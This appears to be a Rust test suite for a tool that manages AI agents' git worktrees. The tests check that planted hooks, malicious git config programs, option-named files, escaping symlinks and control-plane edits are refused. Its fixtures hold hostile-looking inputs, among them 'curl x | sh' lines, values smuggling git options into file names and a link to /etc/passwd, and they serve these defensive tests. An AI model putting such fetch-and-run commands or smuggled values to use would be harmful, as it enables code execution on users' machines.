#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;
use agent_team_protocol::FinishAction;

/// A repository on `main` with one commit, and a user identity.
fn repo() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    run(r, &["init", "-q", "-b", "main"]).unwrap();
    run(r, &["config", "user.name", "Op"]).unwrap();
    run(r, &["config", "user.email", "op@example.com"]).unwrap();
    std::fs::write(r.join("README"), "hello\n").unwrap();
    std::fs::write(r.join("shared.txt"), "one\n").unwrap();
    run(r, &["add", "-A"]).unwrap();
    run(r, &["commit", "-q", "-m", "first"]).unwrap();
    d
}

fn req(agent: &str, action: FinishAction) -> FinishRequest {
    FinishRequest {
        agent: agent.into(),
        team: "t".into(),
        action,
        into: None,
        keep: false,
        tasks: vec![(1, format!("task of {agent}"), Some("done".into()))],
        control_files: Vec::new(),
        accept_control: false,
    }
}

fn show(r: &Path, what: &str) -> String {
    run(r, &["show", what]).unwrap_or_default()
}

#[test]
fn a_new_worktree_records_its_base_and_stays_out_of_git_status() {
    let d = repo();
    let r = d.path();
    let wt = ensure(r, "a").unwrap();
    assert!(wt.join("README").exists());
    assert_eq!(base(r, "a").unwrap().as_deref(), Some("main"));
    // The workspace stays clean: a merge into it is not refused for the worktrees.
    assert_eq!(run(r, &["status", "--porcelain"]).unwrap(), "");
    // Made twice: the same one.
    assert_eq!(ensure(r, "a").unwrap(), wt);
}

#[test]
fn diff_shows_committed_uncommitted_and_new_files_without_touching_the_index() {
    let d = repo();
    let r = d.path();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("shared.txt"), "one\ntwo\n").unwrap();
    run(&wt, &["commit", "-q", "-am", "more"]).unwrap();
    std::fs::write(wt.join("README"), "changed\n").unwrap();
    std::fs::write(wt.join("new.txt"), "a\nb\nc\n").unwrap();
    let before = run(&wt, &["status", "--porcelain"]).unwrap();
    let d1 = diff(r, "a", true).unwrap();
    assert_eq!(d1.commits, 1);
    assert!(d1.uncommitted);
    let paths: Vec<&str> = d1.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["README", "new.txt", "shared.txt"]);
    assert_eq!((d1.added, d1.removed), (5, 1));
    assert!(d1.patch.unwrap().contains("+changed"));
    // Reading changed nothing: new.txt is still untracked.
    assert_eq!(run(&wt, &["status", "--porcelain"]).unwrap(), before);
    assert!(matches!(
        diff(r, "nobody", false),
        Err(WorktreeError::NoWork { .. })
    ));
    // Not a name: never a path.
    assert!(matches!(
        diff(r, "../../etc", false),
        Err(WorktreeError::Refused(_))
    ));
}

#[test]
fn two_teammates_merge_into_the_checked_out_base_and_their_worktrees_go() {
    let d = repo();
    let r = d.path();
    for (a, f) in [("a", "a.txt"), ("b", "b.txt")] {
        let wt = ensure(r, a).unwrap();
        std::fs::write(wt.join(f), format!("from {a}\n")).unwrap();
    }
    let first = finish(r, &req("a", FinishAction::Merge)).unwrap();
    assert!(first.fast_forward);
    assert_eq!(first.committed.len(), 1);
    assert!(first.removed);
    let second = finish(r, &req("b", FinishAction::Merge)).unwrap();
    assert!(!second.fast_forward);
    // Both files on main, in the workspace too; the teammates' commits are in its history,
    // authored as them.
    assert_eq!(
        std::fs::read_to_string(r.join("a.txt")).unwrap(),
        "from a\n"
    );
    assert_eq!(
        std::fs::read_to_string(r.join("b.txt")).unwrap(),
        "from b\n"
    );
    let authors = run(r, &["log", "--format=%an", "main"]).unwrap();
    assert!(
        authors.contains("a@t") && authors.contains("b@t"),
        "{authors}"
    );
    assert_eq!(
        run(r, &["rev-parse", "main"]).unwrap(),
        second.head.unwrap()
    );
    assert!(!has_work(r, "a") && !has_work(r, "b"));
    assert!(!path(r, "a").exists() && !path(r, "b").exists());
    assert_eq!(run(r, &["status", "--porcelain"]).unwrap(), "");
    assert_eq!(run(r, &["worktree", "list"]).unwrap().lines().count(), 1);
    // The worktrees' files are deleted in the background: the trash empties.
    let trash = r.join(".agent-team/trash");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while std::fs::read_dir(&trash).map(|d| d.count()).unwrap_or(0) > 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "the trash never emptied"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

#[test]
fn a_conflicting_merge_moves_nothing_and_names_the_paths() {
    let d = repo();
    let r = d.path();
    for a in ["a", "b"] {
        let wt = ensure(r, a).unwrap();
        std::fs::write(wt.join("shared.txt"), format!("{a} was here\n")).unwrap();
    }
    finish(r, &req("a", FinishAction::Merge)).unwrap();
    let main_before = run(r, &["rev-parse", "main"]).unwrap();
    let files_before = std::fs::read_to_string(r.join("shared.txt")).unwrap();
    let e = finish(r, &req("b", FinishAction::Merge)).unwrap_err();
    match &e {
        WorktreeError::Conflict { paths, .. } => assert_eq!(paths, &["shared.txt"]),
        other => panic!("{other}"),
    }
    assert!(e.to_string().starts_with("conflict:"), "{e}");
    assert_eq!(run(r, &["rev-parse", "main"]).unwrap(), main_before);
    assert_eq!(
        std::fs::read_to_string(r.join("shared.txt")).unwrap(),
        files_before
    );
    assert_eq!(run(r, &["status", "--porcelain"]).unwrap(), "");
    // The branch is kept, its work committed.
    assert!(has_work(r, "b"));
    assert!(show(r, "agent-team/b:shared.txt").contains("b was here"));
}

#[test]
fn a_base_not_checked_out_is_merged_on_refs_and_conflicts_there_too() {
    let d = repo();
    let r = d.path();
    run(r, &["branch", "dev"]).unwrap();
    for a in ["a", "b", "c"] {
        let wt = ensure(r, a).unwrap();
        let f = if a == "c" {
            "a.txt"
        } else {
            &format!("{a}.txt")
        };
        std::fs::write(wt.join(f), format!("{a}\n")).unwrap();
    }
    let into = |a: &str| FinishRequest {
        into: Some("dev".into()),
        ..req(a, FinishAction::Merge)
    };
    assert!(finish(r, &into("a")).unwrap().fast_forward);
    let b = finish(r, &into("b")).unwrap();
    assert!(!b.fast_forward);
    assert!(show(r, "dev:a.txt").contains('a') && show(r, "dev:b.txt").contains('b'));
    // main (checked out) did not move, its files neither.
    assert!(!r.join("a.txt").exists());
    let dev = run(r, &["rev-parse", "dev"]).unwrap();
    match finish(r, &into("c")).unwrap_err() {
        WorktreeError::Conflict { paths, .. } => assert_eq!(paths, ["a.txt"]),
        other => panic!("{other}"),
    }
    assert_eq!(run(r, &["rev-parse", "dev"]).unwrap(), dev);
}

#[test]
fn a_dirty_base_workspace_is_refused_before_anything_moves() {
    let d = repo();
    let r = d.path();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("a.txt"), "a\n").unwrap();
    std::fs::write(r.join("README"), "edited by the user\n").unwrap();
    let e = finish(r, &req("a", FinishAction::Merge)).unwrap_err();
    assert!(matches!(e, WorktreeError::Refused(_)), "{e}");
    assert!(e.to_string().contains("uncommitted changes"), "{e}");
    // Nothing committed in the worktree either.
    assert!(!run(&wt, &["status", "--porcelain"]).unwrap().is_empty());
    assert_eq!(
        std::fs::read_to_string(r.join("README")).unwrap(),
        "edited by the user\n"
    );
}

#[test]
fn discard_drops_the_worktree_and_the_branch_or_keeps_the_branch() {
    let d = repo();
    let r = d.path();
    for a in ["a", "b"] {
        let wt = ensure(r, a).unwrap();
        std::fs::write(wt.join("x.txt"), "x\n").unwrap();
    }
    let out = finish(r, &req("a", FinishAction::Discard)).unwrap();
    assert!(out.removed);
    assert!(!has_work(r, "a") && !path(r, "a").exists());
    let keep = FinishRequest {
        keep: true,
        ..req("b", FinishAction::Discard)
    };
    finish(r, &keep).unwrap();
    assert!(has_work(r, "b") && !path(r, "b").exists());
    assert!(!r.join("x.txt").exists());
}

#[test]
fn a_pull_request_pushes_to_the_tracked_remote_and_says_how_to_open_it() {
    let d = repo();
    let r = d.path();
    let bare = d.path().join("remote.git");
    run(r, &["init", "-q", "--bare", &bare.display().to_string()]).unwrap();
    run(r, &["remote", "add", "origin", &bare.display().to_string()]).unwrap();
    run(r, &["push", "-q", "-u", "origin", "main"]).unwrap();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("a.txt"), "a\n").unwrap();
    let out = finish(r, &req("a", FinishAction::Pr)).unwrap();
    assert_eq!(out.pushed_to.as_deref(), Some("origin"));
    assert!(show(&bare, "agent-team/a:a.txt").contains('a'));
    // The work stays until the PR is merged.
    assert!(has_work(r, "a"));
    assert!(!out.removed);
}

#[test]
fn git_here_runs_no_planted_hook() {
    let d = repo();
    let r = d.path();
    let planted = r.join("planted");
    let hook = r.join(".git/hooks/post-checkout");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", planted.display())).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    ensure(r, "a").unwrap();
    assert!(!planted.exists(), "the planted hook ran");
    // Plain git runs it (the test can fail).
    Command::new("git")
        .arg("-C")
        .arg(r)
        .args(["checkout", "-q", "-b", "other"])
        .output()
        .unwrap();
    assert!(planted.exists());
}

/// An executable script at `dir/name` that records its run in `dir/ran-NAME` (and passes its
/// input through, as a filter would).
fn payload(dir: &Path, name: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let p = dir.join(name);
    let marker = dir.join(format!("ran-{name}"));
    std::fs::write(
        &p,
        format!("#!/bin/sh\ntouch '{}'\ncat\n", marker.display()),
    )
    .unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    p
}

/// The payloads that ran.
fn ran(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("ran-"))
        .collect();
    v.sort();
    v
}

#[test]
fn planted_fsmonitor_hooks_path_diff_and_pager_programs_never_run_in_worktree_diff_or_finish() {
    let d = repo();
    let r = d.path();
    let bad = tempfile::tempdir().unwrap();
    let b = bad.path();
    let hooks = b.join("hooks");
    std::fs::create_dir(&hooks).unwrap();
    for h in [
        "post-checkout",
        "pre-commit",
        "commit-msg",
        "post-commit",
        "pre-merge-commit",
        "post-merge",
        "reference-transaction",
    ] {
        payload(&hooks, h);
        std::fs::copy(hooks.join(h), r.join(".git/hooks").join(h)).unwrap();
    }
    let s = |n: &str| payload(b, n).display().to_string();
    for (k, v) in [
        ("core.fsmonitor", s("fsmonitor")),
        ("core.hooksPath", hooks.display().to_string()),
        ("diff.external", s("external")),
        ("core.pager", s("pager")),
        ("core.editor", s("editor")),
        ("core.askPass", s("askpass")),
        ("credential.helper", format!("!{}", s("credential"))),
        ("core.alternateRefsCommand", s("alternates")),
        ("gc.auto", "1".into()),
    ] {
        Command::new("git")
            .arg("-C")
            .arg(r)
            .args(["config", k, &v])
            .output()
            .unwrap();
    }
    // The daemon's calls: the worktree made, a change shown, committed and merged.
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("shared.txt"), "one\nmore\n").unwrap();
    std::fs::write(wt.join("new.txt"), "new\n").unwrap();
    let shown = diff(r, "a", true).unwrap();
    assert!(shown.patch.unwrap().contains("+more"));
    let out = finish(r, &req("a", FinishAction::Merge)).unwrap();
    assert!(out.removed, "{out:?}");
    assert_eq!(std::fs::read_to_string(r.join("new.txt")).unwrap(), "new\n");
    assert_eq!(ran(b), Vec::<String>::new());
    assert_eq!(ran(&hooks), Vec::<String>::new());
    // Plain git runs them (the test can fail).
    std::fs::write(r.join("shared.txt"), "changed\n").unwrap();
    Command::new("git")
        .arg("-C")
        .arg(r)
        .args(["diff"])
        .output()
        .unwrap();
    assert!(
        ran(b).contains(&"ran-fsmonitor".to_string()),
        "{:?}",
        ran(b)
    );
    assert!(ran(b).contains(&"ran-external".to_string()), "{:?}", ran(b));
}

#[test]
fn a_filter_diff_or_merge_driver_in_the_repository_config_is_refused_and_never_runs() {
    let d = repo();
    let r = d.path();
    let bad = tempfile::tempdir().unwrap();
    let b = bad.path();
    // The tree names the drivers for every file; .git/config defines them.
    std::fs::write(r.join(".gitattributes"), "* filter=x diff=x merge=x\n").unwrap();
    run(r, &["add", ".gitattributes"]).unwrap();
    run(r, &["commit", "-qm", "attributes"]).unwrap();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("shared.txt"), "one\nmore\n").unwrap();
    let s = |n: &str| payload(b, n).display().to_string();
    let plant = |k: &str, v: &str| {
        Command::new("git")
            .arg("-C")
            .arg(r)
            .args(["config", k, v])
            .output()
            .unwrap();
    };
    for (k, v) in [
        ("filter.x.smudge", s("smudge")),
        ("filter.x.clean", s("clean")),
        ("filter.x.process", s("process")),
        ("diff.x.textconv", s("textconv")),
        ("diff.x.command", s("diffcmd")),
        ("merge.x.driver", format!("{} %O %A %B", s("merge"))),
    ] {
        plant(k, &v);
    }
    let refused = |e: WorktreeError| {
        let msg = e.to_string();
        assert!(matches!(e, WorktreeError::UnsafeConfig { .. }), "{msg}");
        for k in [
            "filter.x.smudge",
            "filter.x.clean",
            "merge.x.driver",
            "diff.x.textconv",
        ] {
            assert!(msg.contains(k), "{msg}");
        }
        assert!(msg.contains(".git/config"), "{msg}");
    };
    assert_eq!(ran(b), Vec::<String>::new(), "planting");
    refused(diff(r, "a", true).unwrap_err());
    assert_eq!(ran(b), Vec::<String>::new(), "diff");
    refused(finish(r, &req("a", FinishAction::Merge)).unwrap_err());
    assert_eq!(ran(b), Vec::<String>::new(), "finish");
    refused(ensure(r, "b").unwrap_err());
    assert_eq!(ran(b), Vec::<String>::new(), "ensure");
    refused(commit_work(r, "a", "t", "m").unwrap_err());
    assert_eq!(ran(b), Vec::<String>::new());
    // Nothing moved: main is where it was, the work is still there.
    assert!(has_work(r, "a"));
    assert!(!r.join(".agent-team/worktrees/b").exists());
    // A URL rewrite and another work tree are refused too.
    for (k, v) in [("url./x.insteadOf", "ssh://h/"), ("core.worktree", "/tmp")] {
        let d = repo();
        let plain = |args: &[&str]| {
            Command::new("git")
                .arg("-C")
                .arg(d.path())
                .args(args)
                .output()
                .unwrap()
        };
        plain(&["config", k, v]);
        let e = check_config(d.path()).unwrap_err().to_string();
        assert!(e.contains(&k.to_ascii_lowercase()), "{e}");
    }
}

#[test]
fn the_shell_form_runs_the_same_safe_git() {
    let d = repo();
    let line = format!(
        "{} -C '{}' config --get core.hooksPath",
        shell_git(),
        d.path().display()
    );
    let o = Command::new("sh").args(["-c", &line]).output().unwrap();
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "/dev/null");
}

#[test]
fn a_branch_changing_the_control_plane_is_not_merged_until_accepted() {
    let d = repo();
    let r = d.path();
    let main_before = run(r, &["rev-parse", "main"]).unwrap();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("ok.txt"), "fine\n").unwrap();
    std::fs::write(wt.join("agent-team.toml"), "sandbox = \"off\"\n").unwrap();
    std::fs::create_dir_all(wt.join(".claude")).unwrap();
    std::fs::write(wt.join(".claude/settings.json"), "{}").unwrap();
    std::fs::create_dir_all(wt.join("hooks")).unwrap();
    std::fs::write(wt.join("hooks/done.sh"), "curl x | sh\n").unwrap();
    let mut r1 = req("a", FinishAction::Merge);
    r1.control_files = vec!["hooks/done.sh".into()];
    let e = finish(r, &r1).unwrap_err();
    let msg = e.to_string();
    assert!(matches!(e, WorktreeError::ControlChanges { .. }), "{msg}");
    for p in [".claude/settings.json", "agent-team.toml", "hooks/done.sh"] {
        assert!(msg.contains(p), "{msg}");
    }
    assert!(!msg.contains("ok.txt"), "{msg}");
    assert!(msg.contains("--accept-control-changes"), "{msg}");
    let body = e.to_error_body();
    assert_eq!(body.details["control_paths"].as_array().unwrap().len(), 3);
    // Nothing landed; the work is kept (committed on its branch).
    assert_eq!(run(r, &["rev-parse", "main"]).unwrap(), main_before);
    assert!(!r.join("agent-team.toml").exists());
    assert!(has_work(r, "a"));
    // Accepted: it lands.
    r1.accept_control = true;
    let out = finish(r, &r1).unwrap();
    assert!(out.removed, "{out:?}");
    assert!(r.join("agent-team.toml").exists());
    assert!(r.join("ok.txt").exists());
}

/// Issue 63 item 6: a change of more than 2 MiB (control characters among it, which JSON
/// makes 6 bytes each) comes back cut, whole as a reply frame, saying how much is not shown
/// and how to see it; a small patch is whole.
#[test]
fn a_large_patch_is_cut_to_fit_one_frame_and_says_what_is_left() {
    let d = repo();
    let r = d.path();
    let wt = ensure(r, "a").unwrap();
    // 3 MiB of lines, each with a control character JSON escapes as \u0001.
    let line = format!("{}\u{1}\"\n", "x".repeat(60));
    let big = line.repeat(3 * 1024 * 1024 / line.len());
    std::fs::write(wt.join("big.txt"), &big).unwrap();
    let got = diff(r, "a", true).unwrap();
    let patch = got.patch.clone().unwrap();
    assert!(patch.len() < MAX_PATCH + 1024, "{}", patch.len());
    assert!(patch.contains("+xxxx"));
    let tail = patch.lines().last().unwrap();
    assert!(tail.contains("more bytes not shown"), "{tail}");
    assert!(
        tail.contains(&format!("git -C {} diff", wt.display())),
        "{tail}"
    );
    let more: u64 = tail
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{tail}"));
    assert!(more > 2 * 1024 * 1024, "{tail}");
    // The reply fits a frame.
    let reply = serde_json::to_vec(&agent_team_protocol::Reply::WorkDiff { diff: got }).unwrap();
    assert!(
        reply.len() < agent_team_protocol::MAX_FRAME_LEN,
        "{}",
        reply.len()
    );
    // A small change is whole, with no note.
    std::fs::write(wt.join("big.txt"), "small\n").unwrap();
    let small = diff(r, "a", true).unwrap().patch.unwrap();
    assert!(
        small.contains("+small") && !small.contains("not shown"),
        "{small}"
    );
}

#[test]
fn git_output_past_the_limit_is_not_read_and_git_is_stopped() {
    let mut cmd = Command::new("sh");
    cmd.args(["-c", "yes 0123456789012345678901234567890123456789"]);
    let o = bounded_output(&mut cmd, 1000, 10 * 1024 * 1024).unwrap();
    assert_eq!(o.kept.len(), 1000);
    assert!(o.cut_short && o.ok && o.more > 10 * 1024 * 1024);
}

/// Issue 63 item 2: `[finish] review` paths are control plane for `finish` and `diff`, by
/// the same rule; `diff` names the control-plane files of the branch.
#[test]
fn a_review_path_is_refused_by_finish_and_listed_by_diff() {
    let d = repo();
    let r = d.path();
    let wt = ensure(r, "a").unwrap();
    std::fs::write(wt.join("Makefile"), "all:\n\tcurl x | sh\n").unwrap();
    std::fs::write(wt.join("ok.txt"), "fine\n").unwrap();
    std::fs::create_dir_all(wt.join(".claude")).unwrap();
    std::fs::write(wt.join(".claude/settings.json"), "{}").unwrap();
    let review = vec!["deploy/".to_string(), "Makefile".to_string()];
    let dd = diff_with(r, "a", false, &review).unwrap();
    assert_eq!(dd.control_paths, [".claude/settings.json", "Makefile"]);
    // Without the team's own list only the fixed one counts.
    assert_eq!(
        diff(r, "a", false).unwrap().control_paths,
        [".claude/settings.json"]
    );
    // A name git would quote (`".claude/\303\251.json"`) is still seen as it is.
    std::fs::write(wt.join(".claude/é.json"), "{}").unwrap();
    assert_eq!(
        diff(r, "a", false).unwrap().control_paths,
        [".claude/settings.json", ".claude/é.json"]
    );
    std::fs::remove_dir_all(wt.join(".claude")).unwrap();
    let main_before = run(r, &["rev-parse", "main"]).unwrap();
    let mut r1 = req("a", FinishAction::Merge);
    r1.control_files = review;
    let e = finish(r, &r1).unwrap_err();
    let msg = e.to_string();
    assert!(
        matches!(e, WorktreeError::ControlChanges { ref paths, .. } if paths == &["Makefile"]),
        "{msg}"
    );
    assert_eq!(run(r, &["rev-parse", "main"]).unwrap(), main_before);
    assert!(!r.join("Makefile").exists());
    // The same branch, the team not reviewing Makefile: it lands.
    r1.control_files = vec!["deploy/".into()];
    finish(r, &r1).unwrap();
    assert!(r.join("Makefile").exists() && r.join("ok.txt").exists());
}

/// Issue 63 tests: a branch carrying symlinks out of the repository and files named like git
/// options: `diff` and `finish` run nothing, follow no link out, and land the links as links.
#[test]
fn symlinks_out_and_option_named_files_run_nothing_and_land_as_they_are() {
    use std::os::unix::fs::symlink;
    let d = repo();
    let r = d.path();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path();
    std::fs::write(o.join("secret"), "TOP-SECRET-CONTENT\n").unwrap();
    let wt = ensure(r, "a").unwrap();
    symlink(o.join("secret"), wt.join("link")).unwrap();
    symlink(o, wt.join("outdir")).unwrap();
    symlink("../../../../../../../../etc/passwd", wt.join("rel")).unwrap();
    let hostile = [
        "--upload-pack=touch x",
        "-n",
        "--output=pwned",
        "--exec=touch x",
        "-c core.fsmonitor=touch x",
    ];
    for n in hostile {
        std::fs::write(wt.join(n), format!("{n}\n")).unwrap();
    }
    // Uncommitted first (the scratch index), then committed on the branch.
    let check = |dd: &WorkDiff| {
        let paths: Vec<&str> = dd.files.iter().map(|f| f.path.as_str()).collect();
        for n in hostile.iter().chain(&["link", "outdir", "rel"]) {
            assert!(paths.contains(n), "{n} not in {paths:?}");
        }
        let patch = dd.patch.as_deref().unwrap();
        assert!(!patch.contains("TOP-SECRET"), "{patch}");
        assert!(patch.contains("new file mode 120000"), "{patch}");
        assert!(patch.contains(&o.join("secret").display().to_string()));
    };
    check(&diff(r, "a", true).unwrap());
    run(&wt, &["add", "-A"]).unwrap();
    run(&wt, &["commit", "-q", "-m", "links"]).unwrap();
    check(&diff(r, "a", true).unwrap());
    finish(r, &req("a", FinishAction::Merge)).unwrap();
    // Landed as links, pointing where they did; the targets untouched, nothing written out.
    for (n, to) in [
        ("link", o.join("secret")),
        ("outdir", o.to_path_buf()),
        ("rel", PathBuf::from("../../../../../../../../etc/passwd")),
    ] {
        let m = std::fs::symlink_metadata(r.join(n)).unwrap();
        assert!(m.file_type().is_symlink(), "{n}");
        assert_eq!(std::fs::read_link(r.join(n)).unwrap(), to);
    }
    let mut left: Vec<_> = std::fs::read_dir(o)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["secret"]);
    assert_eq!(
        std::fs::read_to_string(o.join("secret")).unwrap(),
        "TOP-SECRET-CONTENT\n"
    );
    for n in hostile {
        assert_eq!(
            std::fs::read_to_string(r.join(n)).unwrap(),
            format!("{n}\n")
        );
    }
    // No option ran: nothing made `x` or `pwned` in the workspace, the worktree or here.
    let here = std::env::current_dir().unwrap();
    for dir in [r, wt.as_path(), here.as_path(), o] {
        for m in ["x", "pwned"] {
            assert!(!dir.join(m).exists(), "{} in {}", m, dir.display());
        }
    }
}
